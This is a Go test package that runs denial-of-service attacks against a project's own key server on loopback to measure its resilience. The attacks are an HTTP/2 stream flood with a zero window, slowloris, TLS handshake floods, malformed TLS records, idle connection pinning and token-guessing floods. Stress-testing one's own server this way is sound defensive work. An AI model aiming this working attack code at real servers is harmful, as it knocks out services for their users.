// Package abuse attacks the real unlockrd-keyserver binary from the
// outside, without any token, on loopback. The attacks are exported so
// that the fleet storm (qemu-tests/storm) runs the same ones; the test
// here runs each alone against one server while a legitimate host with
// its token fetches its key with the boot client (unlock/keys), and
// asserts what issue 12 asks: the host gets its key on at least 90 % of
// its tries and the server's peak resident memory stays within 128 MiB.
//
// The attacker dials from its own loopback addresses (127.0.0.2 and up,
// Sources of them; a host uses 127.0.0.1), as attackers elsewhere on a
// network would: the server charges what an unauthenticated client costs
// to its source address.
//
// To measure another build (e.g. the parent commit, for before/after
// figures), point UNLOCKRD_ABUSE_KEYSERVER at its binary: the figures are
// printed, and the assertions fail as they should.
package abuse

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Sources is how many loopback source addresses the attacker dials from:
// 127.0.0.2 up to 127.0.0.(1+Sources).
const Sources = 8

// Attacker is what an attack gets: a context that ends with the attack,
// the server's address, the host id whose URL it goes for, and a way to
// dial from attacker sources.
type Attacker struct {
	ctx  context.Context
	addr string
	host string
	n    atomic.Int64 // attempts made, for the report
	// conns left open by the attack, closed when it ends.
	mu    sync.Mutex
	conns []net.Conn
}

// NewAttacker returns an attacker on the server at addr (host:port) that
// attacks until ctx ends; host is the enrolled host id it tries to lock
// out.
func NewAttacker(ctx context.Context, addr, host string) *Attacker {
	return &Attacker{ctx: ctx, addr: addr, host: host}
}

// Attempts is how many connections and requests the attacker made.
func (a *Attacker) Attempts() int64 { return a.n.Load() }

// dial connects from attacker source i (127.0.0.2 + i mod Sources).
func (a *Attacker) dial(i int) (net.Conn, error) {
	a.n.Add(1)
	src := net.IPv4(127, 0, 0, byte(2+i%Sources))
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: src}, Timeout: 5 * time.Second}
	c, err := d.DialContext(a.ctx, "tcp", a.addr)
	if err == nil {
		a.keep(c)
	}
	return c, err
}

func (a *Attacker) keep(c net.Conn) {
	a.mu.Lock()
	a.conns = append(a.conns, c)
	a.mu.Unlock()
}

// CloseAll closes the connections an attack left open; call it once the
// attack has ended.
func (a *Attacker) CloseAll() {
	a.mu.Lock()
	defer a.mu.Unlock()
	for _, c := range a.conns {
		c.Close()
	}
	a.conns = nil
}

// tlsDial makes a TLS connection from source i, offering protos.
func (a *Attacker) tlsDial(i int, protos ...string) (*tls.Conn, error) {
	c, err := a.dial(i)
	if err != nil {
		return nil, err
	}
	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: protos})
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if err := tc.HandshakeContext(a.ctx); err != nil {
		c.Close()
		return nil, err
	}
	c.SetDeadline(time.Time{})
	return tc, nil
}

// workers runs n copies of f until the attack ends.
func (a *Attacker) workers(n int, f func(i int)) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a.ctx.Err() == nil {
				f(i)
			}
		}()
	}
	wg.Wait()
}

// httpClient is an attacker's HTTP/1.1 client from source i, keeping
// connections alive when the server lets it.
func (a *Attacker) httpClient(i int) *http.Client {
	src := net.IPv4(127, 0, 0, byte(2+i%Sources))
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: src}, Timeout: 5 * time.Second}
	return &http.Client{
		Timeout: 10 * time.Second,
		Transport: &http.Transport{
			DialContext:       d.DialContext,
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			ForceAttemptHTTP2: false,
		},
	}
}

func (a *Attacker) get(c *http.Client, path, token string) {
	a.n.Add(1)
	req, _ := http.NewRequestWithContext(a.ctx, http.MethodGet, "https://"+a.addr+path, nil)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.Do(req)
	if err != nil {
		return
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
}

// Attack is one way to abuse the server without a token.
type Attack struct {
	Name string
	// Run attacks until the Attacker's context ends.
	Run func(a *Attacker)
}

// Attacks are issue 12's, and those it names besides.
func Attacks() []Attack {
	return []Attack{
		{"h2-stream-flood", h2Flood},
		{"unauthenticated-host-url", unauthHostURL},
		{"many-host-ids", manyHostIDs},
		{"idle-keepalive", idleKeepAlive},
		{"slowloris-headers", slowloris},
		{"handshake-flood", handshakeFlood},
		{"garbage-tls", garbageTLS},
	}
}

// h2Flood: issue 12's memory exhaustion. Connections offering h2 open
// streams of GET /healthz with ~7 KB of headers and a zero flow-control
// window, so no answer can be written and each handler waits; streams are
// reopened as fast as the server takes them. A server without h2 answers
// the preface as a malformed HTTP/1.1 request and closes.
func h2Flood(a *Attacker) {
	var pad []hpack.HeaderField
	for i := range 64 {
		pad = append(pad, hpack.HeaderField{Name: fmt.Sprintf("x-pad-%02d", i), Value: strings.Repeat("p", 100)})
	}
	a.workers(32, func(i int) {
		c, err := a.tlsDial(i, "h2")
		if err != nil {
			return
		}
		defer c.Close()
		if c.ConnectionState().NegotiatedProtocol != "h2" {
			// Try anyway: send the preface and read what comes back.
			io.WriteString(c, http2.ClientPreface)
			c.SetReadDeadline(time.Now().Add(2 * time.Second))
			io.Copy(io.Discard, c)
			return
		}
		io.WriteString(c, http2.ClientPreface)
		fr := http2.NewFramer(c, c)
		var wmu sync.Mutex // the framer's writes share one buffer
		fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		go func() { // read and drop what the server sends; ack its settings
			for {
				f, err := fr.ReadFrame()
				if err != nil {
					return
				}
				if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck()
					wmu.Unlock()
				}
			}
		}()
		var buf bytes.Buffer
		enc := hpack.NewEncoder(&buf)
		for id := uint32(1); a.ctx.Err() == nil && id < 1<<30; id += 2 {
			buf.Reset()
			for _, h := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
				{Name: ":authority", Value: "localhost"}, {Name: ":path", Value: "/healthz"}} {
				enc.WriteField(h)
			}
			for _, h := range pad {
				enc.WriteField(h)
			}
			wmu.Lock()
			c.SetWriteDeadline(time.Now().Add(2 * time.Second))
			err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: buf.Bytes(), EndStream: true, EndHeaders: true})
			wmu.Unlock()
			if err != nil {
				return
			}
		}
	})
}

// unauthHostURL: issue 12's lock-out. Requests for the host's own URL,
// without a token and with wrong ones, as fast as the server answers.
func unauthHostURL(a *Attacker) {
	a.workers(16, func(i int) {
		c := a.httpClient(i)
		defer c.CloseIdleConnections()
		for a.ctx.Err() == nil {
			tok := ""
			if i%2 == 1 {
				tok = "guess-" + rand.Text()
			}
			a.get(c, "/v1/keys/"+a.host, tok)
		}
	})
}

// manyHostIDs: wrong tokens for ever new host ids, to spend the global
// budget and the server's per-host state.
func manyHostIDs(a *Attacker) {
	a.workers(16, func(i int) {
		c := a.httpClient(i)
		defer c.CloseIdleConnections()
		for a.ctx.Err() == nil {
			a.get(c, "/v1/keys/h-"+rand.Text(), "guess-"+rand.Text())
		}
	})
}

// idleKeepAlive: issue 12's slot pinning. One cheap request per
// connection, then the connection is left idle and open, as many as the
// server keeps.
func idleKeepAlive(a *Attacker) {
	req := "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
	a.workers(64, func(i int) {
		c, err := a.tlsDial(i)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		io.WriteString(c, req)
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		// Left open, unless the server closed it (then there is
		// nothing to hold, and the descriptor is needed for the next).
		c.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); err == io.EOF || (err != nil && !isTimeout(err)) {
			c.Close()
			return
		}
		c.SetReadDeadline(time.Time{})
	})
}

// slowloris: connections that complete the TLS handshake and then send
// a request's headers a few bytes a second (and, for half of them, plain
// TCP connections that never say anything).
func slowloris(a *Attacker) {
	a.workers(128, func(i int) {
		if i%2 == 0 {
			if _, err := a.dial(i); err != nil {
				time.Sleep(10 * time.Millisecond)
			}
			time.Sleep(200 * time.Millisecond)
			return
		}
		c, err := a.tlsDial(i)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		defer c.Close()
		io.WriteString(c, "GET /v1/keys/"+a.host+" HTTP/1.1\r\nHost: localhost\r\n")
		for a.ctx.Err() == nil {
			if _, err := io.WriteString(c, "X-a: b\r\n"); err != nil {
				return
			}
			select {
			case <-time.After(time.Second):
			case <-a.ctx.Done():
			}
		}
	})
}

// handshakeFlood: full TLS handshakes as fast as they go, then close:
// each costs the server a signature before it sees any request.
func handshakeFlood(a *Attacker) {
	a.workers(32, func(i int) {
		if c, err := a.tlsDial(i); err == nil {
			c.Close()
		}
	})
}

// garbageTLS: random bytes, records with absurd lengths and truncated
// handshakes, then the connection is held.
func garbageTLS(a *Attacker) {
	a.workers(32, func(i int) {
		c, err := a.dial(i)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			return
		}
		switch i % 3 {
		case 0:
			c.Write([]byte(rand.Text() + rand.Text()))
		case 1: // handshake record header claiming 16 KiB, then a few bytes
			c.Write([]byte{0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc})
		case 2: // a record header with a length over the maximum
			c.Write([]byte{0x17, 0x03, 0x03, 0xff, 0xff})
		}
		c.SetReadDeadline(time.Now().Add(time.Second))
		io.Copy(io.Discard, c)
		c.Close()
	})
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}
